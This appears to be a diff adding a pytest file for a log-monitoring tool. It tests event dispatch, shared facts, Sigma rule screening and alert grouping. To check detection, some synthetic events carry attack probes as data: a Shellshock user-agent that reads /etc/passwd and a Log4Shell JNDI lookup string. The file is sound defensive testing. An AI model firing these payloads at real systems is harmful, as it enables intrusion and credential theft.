@@ -1,0 +1,152 @@
+"""The shared per-event machinery: kind dispatch in the runtime, EventFacts, the Sigma screen."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Iterable
+from datetime import UTC, datetime, timedelta
+
+import pytest
+
+from pavedroad.core.findings import Severity
+from pavedroad.monitor.detect import build_detectors
+from pavedroad.monitor.detect import synthetic as scenario
+from pavedroad.monitor.detect.facts import EventFacts
+from pavedroad.monitor.detect.grouping import AlertGrouper
+from pavedroad.monitor.detect.rule import RuleInfo
+from pavedroad.monitor.detect.sigma.backend import SigmaDetector
+from pavedroad.monitor.detect.sigma.loader import BUILTIN_RULES, load_rules, rule_files
+from pavedroad.monitor.detect.stateful.base import WindowedDetector
+from pavedroad.monitor.ingest.lines import Line
+from pavedroad.monitor.model import Alert, Event, Origin
+from pavedroad.monitor.parsers.registry import build_parser
+from pavedroad.monitor.runtime import MonitorRuntime, RunStats, RuntimeSettings
+
+T0 = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
+
+
+class Recorder:
+    """A detector that records the kinds it was given; `kinds` None means every kind."""
+
+    def __init__(self, name: str, kinds: frozenset[str] | None) -> None:
+        self.name = name
+        if kinds is not None:
+            self.kinds = kinds
+        self.seen: list[str] = []
+
+    def observe(self, event: Event) -> Iterable[Alert]:
+        self.seen.append(event.kind)
+        return ()
+
+    def flush(self, now: datetime) -> Iterable[Alert]:
+        return ()
+
+
+def test_runtime_hands_a_detector_only_the_kinds_it_declares() -> None:
+    web, auth, every = (
+        Recorder("web", frozenset({"nginx"})),
+        Recorder("auth", frozenset({"sshd"})),
+        Recorder("all", None),
+    )
+    runtime = MonitorRuntime(
+        [], lambda source: build_parser("auto", source), [web, auth, every], [],
+        settings=RuntimeSettings(once=True), stats=RunStats(),
+    )  # fmt: skip
+    origin = Origin("mixed.log")
+    runtime.process(
+        [
+            Line('203.0.113.9 - - [05/Mar/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"', origin),
+            Line(
+                "2024-03-05T10:00:01+00:00 web-1 sshd[7]: Failed password for root from 203.0.113.9 port 2 ssh2", origin
+            ),
+            Line(
+                "2024-03-05T10:00:02+00:00 web-1 CRON[8]: pam_unix(cron:session): session closed for user root", origin
+            ),
+        ]
+    )
+    assert web.seen == ["nginx"]
+    assert auth.seen == ["sshd"]
+    assert every.seen == ["nginx", "sshd", "syslog"]
+
+
+def test_built_detectors_share_one_event_facts() -> None:
+    detectors = build_detectors({"detect": {"login_paths": ["/Portal/Login"]}})
+    facts = {id(getattr(detector, "facts", None)) for detector in detectors}
+    assert len(facts) == 1
+    shared = detectors[0].facts  # type: ignore[attr-defined]
+    assert isinstance(shared, EventFacts) and shared.login_paths == ("/portal/login",)
+
+
+def test_event_facts_answer_for_the_event_asked_about() -> None:
+    facts = EventFacts()
+    failure = scenario.ssh_login(T0, "203.0.113.5", "root", success=False)
+    success = scenario.ssh_login(T0 + timedelta(seconds=1), "203.0.113.5", "root", success=True)
+    first = facts.login(failure)
+    assert first is not None and not first.success
+    assert facts.login(failure) is first  # remembered, not recognised again
+    second = facts.login(success)
+    assert second is not None and second.success
+    assert facts.seconds(failure) == T0.timestamp()
+    assert facts.seconds(success) == T0.timestamp() + 1
+    assert facts.seconds(Event("text", None, {}, "no time")) is None
+
+
+def test_shared_facts_give_the_same_alerts_as_private_ones() -> None:
+    events = [
+        *scenario.ssh_brute_force_then_success(T0, "203.0.113.66", failures=25),
+        *scenario.nikto_scan(T0 + timedelta(minutes=20), "203.0.113.77"),
+        *scenario.injection_burst(T0 + timedelta(minutes=40), "203.0.113.88"),
+    ]
+    shared = build_detectors({})
+    alone = build_detectors({})
+    for detector in alone:
+        detector.facts = EventFacts()  # type: ignore[attr-defined]
+
+    def replay(detectors: list[WindowedDetector]) -> list[dict[str, object]]:
+        alerts = [alert for event in events for detector in detectors for alert in detector.observe(event)]
+        alerts += [alert for detector in detectors for alert in detector.flush(T0 + timedelta(days=1))]
+        return [alert.to_dict() for alert in alerts]
+
+    assert replay(shared) == replay(alone)  # type: ignore[arg-type]
+    assert replay(build_detectors({}))  # type: ignore[arg-type]
+
+
+def test_sigma_screen_never_hides_a_rule_that_matches() -> None:
+    detector = SigmaDetector(load_rules(rule_files([BUILTIN_RULES])).rules)
+    rng = random.Random(3)
+    events = [
+        *scenario.benign_replay(T0, minutes=5),
+        *scenario.ssh_brute_force_then_success(T0, "203.0.113.66"),
+        scenario.sudo(T0, "alice", success=True, command="/bin/bash"),
+        scenario.web_event(T0, "203.0.113.7", "/.git/config", status=200),
+        scenario.web_event(T0, "203.0.113.7", "/x", agent="() { :; }; /bin/cat /etc/passwd"),
+        scenario.web_event(T0, "203.0.113.7", "/", query="q=${jndi:ldap://x/a}"),
+        scenario.console_login(T0, root=True, mfa=False, ip="203.0.113.7"),
+    ]
+    rng.shuffle(events)
+    matched = 0
+    for event in events:
+        rules = detector._by_kind.get(event.kind)
+        if rules is None:
+            continue
+        candidates = rules.candidates(event)
+        matching = [rule for rule in rules.all if rule.matches(event)]
+        assert all(rule in candidates for rule in matching)
+        matched += len(matching)
+    assert matched >= 6  # the probes above do reach their rules
+    # and ordinary traffic is screened out
+    quiet = scenario.web_event(T0, "198.51.100.1", "/products/42")
+    assert detector._by_kind["nginx"].candidates(quiet) == ()
+
+
+@pytest.mark.parametrize("evicted", [False, True])
+def test_grouper_reports_nothing_before_the_first_group_closes(evicted: bool) -> None:
+    rule = RuleInfo("test/rule", "t", Severity.LOW, (), "")
+    grouper = AlertGrouper(window=10, max_groups=1)
+    assert list(grouper.due(1e12)) == []
+    grouper.add(rule, "ip:1", 0.0, 0.0)
+    if evicted:
+        grouper.add(rule, "ip:2", 1.0, 1.0)  # closes ip:1 early: due at once
+        assert [alert.entity for alert in grouper.due(2.0)] == ["ip:1"]
+    assert list(grouper.due(9.0 + evicted)) == []
+    assert [alert.entity for alert in grouper.due(11.0 + evicted)] == ["ip:2" if evicted else "ip:1"]
